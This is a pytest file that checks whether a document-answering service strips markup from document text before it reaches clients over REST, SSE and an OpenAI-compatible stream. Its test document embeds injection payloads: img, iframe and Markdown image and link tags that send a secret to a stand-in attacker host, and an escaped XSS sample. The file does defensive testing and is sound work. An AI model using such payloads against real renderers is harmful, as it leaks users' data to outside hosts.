"""What a client receives from a document is as inert as the model's text.

The sanitizer's payload corpus (tests/test_markup.py) is put where a document's text
reaches a client: the quotes, titles and file names of the "Sources:" list an OpenAI client
shows, and the citations and passages of the answer record (REST, SSE, the ``docent``
field, ``ask --json``). Then, end to end, a document holding such markup is asked through
REST, SSE and the OpenAI-compatible stream. Neither oracle of test_markup.py may find
markup, and no link, image, tag or bare URL a Markdown renderer would fetch or link may
stand in the text (the same pattern as test_summarize.py's).
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from app.answer_record import AnswerRecord
from app.http.openai_compat import sources_list
from app.settings import Settings
from models.embedder import Embedder
from rag.answer import Answer, Citation
from rag.context import Source
from tests.http_setup import bearer, client, sse_events, token_for
from tests.indexed import indexed
from tests.test_markup import PLAIN_ELEMENTS, RENDERER, SECRET, bypass, corpus, tags_in

# test_summarize.py's pattern, with a definition ("[r]: url") in place of a bare "![": a
# reference image ("![x][r]") fetches nothing when no definition anywhere gives it a target.
LINK = re.compile(r"\]\(|\]:|</?[A-Za-z!]|\b[a-z][a-z0-9+.-]*://|\bwww\.", re.IGNORECASE)
# The answer units are Markdown (rag.layout): a URL shown as code, which no renderer links,
# and markup characters escaped, which a renderer shows as text.
CODE = re.compile(r"```.*?```|`[^`\n]*`", re.DOTALL)
ESCAPED = re.compile(r"\\.")
QUESTION = "How many days of annual leave does every employee receive?"
DOCUMENT = f"""Leave policy <img src=http://evil.example/t.png?q={SECRET}>

Every employee receives 27 days of annual leave per year ![badge](http://evil.example/p.png?leak={SECRET}) as set out in [the policy](https://evil.example/{SECRET}).
Leave requests go to www.evil.example/{SECRET} <iframe src="//evil.example/{SECRET}"></iframe> before the first of the month.

Unused annual leave days &#60;img src=x onerror=alert(1)&#62; may be carried over up to five days.
"""  # noqa: E501


def _inert(text: str) -> None:
    assert not LINK.search(text), text
    assert bypass(text) is None, (text, bypass(text))


def _inert_markdown(text: str) -> None:
    rendered = tags_in(RENDERER.render(text))
    found = [(tag, attrs) for tag, attrs in rendered.elements if tag not in PLAIN_ELEMENTS]
    assert not found and not rendered.other, (text, found or rendered.other)
    assert not LINK.search(ESCAPED.sub("", CODE.sub("", text))), text


def _payload_answer(payloads: list[str]) -> Answer:
    """Every payload as a quote and a passage; every seventh as a file name and a title too
    (names are short and each pass of the sanitizer costs time)."""
    cited, evidence = [], []
    for n, payload in enumerate(payloads, start=1):
        name, title = (payload, payload) if n % 7 == 0 else ("handbook.pdf", "Staff Handbook")
        also = (payload,) if n % 7 == 0 else ()
        cited.append(Citation(n, name, title, 1, "0" * 64, payload, 0, 9, also_in=also))
        evidence.append(Source(n, [], payload, name, title, 1, 0, 9))
    return Answer("q", "q", "", "answered", citations=cited, evidence=evidence)


def _document_strings(record: dict[str, Any]) -> Iterator[str]:
    for cited in [*record["citations"], *(u["citation"] for u in record["units"])]:
        yield from (cited["source"], cited["title"], cited["quote"], *cited["also_in"])
    for passage in record["evidence"]:
        yield from (passage["source"], passage["title"], passage["text"])


def test_the_payload_corpus_is_inert_in_the_sources_list_and_the_record() -> None:
    answer = _payload_answer(corpus())

    listed = sources_list(answer)
    assert not [line for line in listed.splitlines() if LINK.search(line)]
    assert bypass(listed) is None and "evil.example" not in listed
    record = AnswerRecord.of(answer).model_dump(mode="json")
    strings = set(_document_strings(record))
    assert len(strings) > 50, "the payloads come out in many forms"
    for text in strings:
        _inert(text)


@pytest.fixture
def served(tmp_path: Path, embedder: Embedder) -> Iterator[TestClient]:
    share = tmp_path / "share"
    share.mkdir()
    (share / "leave.txt").write_text(DOCUMENT, encoding="utf-8")
    docent = indexed(Settings(data_dir=tmp_path / "data"), embedder, share)
    with client(docent) as http:
        http.headers.update(bearer(token_for(docent, "root", admin=True)))
        yield http


def _checked_record(record: dict[str, Any]) -> None:
    assert record["status"] == "answered" and "27 days" in record["text"]
    for text in _document_strings(record):
        _inert(text)
    for text in [record["text"], *(u["text"] for u in record["units"])]:
        _inert_markdown(text)


@pytest.mark.slow
def test_a_document_s_markup_reaches_no_client_on_any_route(served: TestClient) -> None:
    asked = served.post("/api/v1/collections/docs/ask", json={"question": QUESTION})
    _checked_record(asked.json())

    streamed = served.post(
        "/api/v1/collections/docs/ask", json={"question": QUESTION, "stream": True}
    )
    events = sse_events(streamed.text)
    assert [name for name, _ in events] == ["delta", "answer"]
    _inert_markdown(json.loads(events[0][1])["text"])
    _checked_record(json.loads(events[1][1]))

    body = {"model": "docent:docs", "messages": [{"role": "user", "content": QUESTION}]}
    chunks = served.post("/v1/chat/completions", json=body | {"stream": True})
    data = [json.loads(d) for _, d in sse_events(chunks.text) if d != "[DONE]"]
    content = "".join(c["choices"][0]["delta"].get("content") or "" for c in data)
    text, sources = content.split("\n\nSources:\n")
    _inert_markdown(text)
    for line in sources.splitlines():
        _inert(line)
    assert "27 days" in sources and SECRET not in sources
    _checked_record(data[-1]["docent"])
    whole = served.post("/v1/chat/completions", json=body).json()
    assert whole["choices"][0]["message"]["content"] == content
